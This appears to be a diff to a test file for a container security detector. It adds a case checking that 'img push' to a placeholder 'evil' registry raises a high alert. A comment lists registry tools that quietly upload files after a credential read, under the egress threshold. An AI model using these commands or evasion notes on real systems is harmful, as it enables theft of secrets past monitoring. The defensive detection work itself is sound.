@@ -2,8 +2,8 @@
  * Registry uploads by tools the table lacked (red-team review): Tekton's `tkn bundle push REF -f FILE` stores any
  * file as an image layer, `docker plugin push` uploads a plugin made from any local directory (`docker plugin
  * create NAME DIR`; dockerd uploads, through docker.sock), and `podman farm build -t REF` has its farm's machines
- * build and push. A few KiB each, far under the egress threshold, after a credential read: nothing was raised.
- * Checked as exported Tetragon and Falco JSON lines through the real scan path; kept out of the scenario library
+ * build and push; genuinetools' `img push REF` (evasion hunt, round 3) uploads from its own process. A few KiB
+ * each, far under the egress threshold, after a credential read: nothing was raised. Checked as exported Tetragon and Falco JSON lines through the real scan path; kept out of the scenario library
  * (the bench's workload).
  */
 import { describe, expect, it } from 'vitest';
@@ -77,6 +77,14 @@ describe('registry tools the table lacked', () => {
       const build = 'farm build --farm ci -t ghcr.io/evil/x:1 /tmp/ctx';
       expect(await clientAlerts('podman-farm-build', '/usr/bin/podman', build, form)).toEqual([high('podman')]);
       expect(await clientAlerts('podman-farm-list', '/usr/bin/podman', 'farm list', form)).toEqual([]);
+    });
+
+    it(`img push (genuinetools/img, daemonless) is high; img build and img pull are quiet (${form})`, async () => {
+      // Evasion hunt, round 3: img uploads from its own process; no entry knew it.
+      const push = '-s /home/user/.local/share/img push ghcr.io/evil/x:1';
+      expect(await clientAlerts('img-push', '/usr/bin/img', push, form)).toEqual([high('img')]);
+      expect(await clientAlerts('img-build', '/usr/bin/img', 'build -t ghcr.io/acme/app:1 .', form)).toEqual([]);
+      expect(await clientAlerts('img-pull', '/usr/bin/img', 'pull ghcr.io/acme/app:1', form)).toEqual([]);
     });
 
     it(`docker plugin push, uploaded by dockerd, is high; docker plugin install is quiet (${form})`, async () => {
